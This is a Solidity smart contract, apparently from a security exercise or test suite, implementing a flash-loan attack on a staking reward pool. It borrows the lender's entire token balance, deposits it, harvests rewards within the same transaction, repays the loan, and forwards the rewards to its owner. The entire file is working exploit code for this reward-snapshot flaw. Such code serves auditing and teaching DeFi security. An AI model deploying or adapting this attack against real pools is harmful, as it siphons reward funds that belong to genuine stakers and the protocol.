// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {FlashLoanAttacker} from "../shared/FlashLoanAttacker.sol";
import {IRewardPool} from "./IRewardPool.sol";

/// @title RewardSnapshotAttacker
/// @notice Borrows every token the lender has, stakes it, leaves with the rewards in the same
/// transaction, repays, and hands the rewards and what is left of the fee money to its owner.
contract RewardSnapshotAttacker is FlashLoanAttacker {
    using SafeERC20 for IERC20;

    IRewardPool public immutable pool;
    IERC20 public immutable token;
    IERC20 public immutable rewardToken;

    constructor(
        IERC3156FlashLender lender_,
        IRewardPool pool_,
        IERC20 token_,
        IERC20 rewardToken_
    ) FlashLoanAttacker(lender_) {
        pool = pool_;
        token = token_;
        rewardToken = rewardToken_;
    }

    /// @notice Runs the attack; the owner must have sent this contract the loan's fee beforehand.
    function attack() external onlyOwner {
        address tokenAddress = address(token);
        lender.flashLoan(this, tokenAddress, lender.maxFlashLoan(tokenAddress), "");
        rewardToken.safeTransfer(owner, rewardToken.balanceOf(address(this)));
        token.safeTransfer(owner, token.balanceOf(address(this)));
    }

    function _useLoan(uint256 amount, bytes calldata) internal override {
        token.forceApprove(address(pool), amount);
        pool.deposit(0, amount, address(this));
        pool.withdrawAndHarvest(0, amount, address(this));
    }
}
